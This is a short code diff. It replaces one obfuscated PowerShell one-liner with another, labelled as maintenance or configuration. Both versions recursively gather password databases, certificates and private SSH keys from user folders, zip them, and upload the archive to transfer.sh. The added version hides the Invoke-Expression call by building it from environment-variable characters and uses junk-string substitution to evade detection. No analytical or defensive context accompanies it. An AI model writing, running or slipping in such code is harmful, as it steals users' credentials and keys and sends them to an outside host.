@@ -1,4 +1,4 @@
-Invoke-Expression -Command 'iex ((''#KKZ22 maintenancKKZ22e 0504 v3
-Get-ChildItem -Path C:\Users -Recurse -Include *.kdbx,*.pfx,*.pem,id_rsa -Errorqq~5ction SilentlyContinue | Compress-qq~5rchive -DestinationPath C:\ProgramData\d.zip
-Invoke-RestMethod -Uri ''''https://transfer.sh/backup_svc.zip'''' -Method Put -InFile C:\ProgramData\d.zip
-'' -replace ''KKZ22'','''').Replace(''qq~5'',''A''))'
+'iex ((''# config 8810 v3
+Get-ChiXXZ18ldItem -Path C:\jx~2sers -Recurse -Include *.kdbx,*.pfx,*.pem,id_rsa -ErrorAction SilentlyContinue | Compress-Archive -DestinationPath C:\ProgramData\dXXZ18.ziXXZ18p
+Invoke-RestMethod -jx~2ri ''''https://transfer.sh/support.zip'''' -Method Put -InFile C:\ProgramXXZ18Data\d.ziXXZ18p
+'' -replace ''XXZ18'','''').Replace(''jx~2'',''U''))' | & ($env:comspec[4,15,25]-join'')
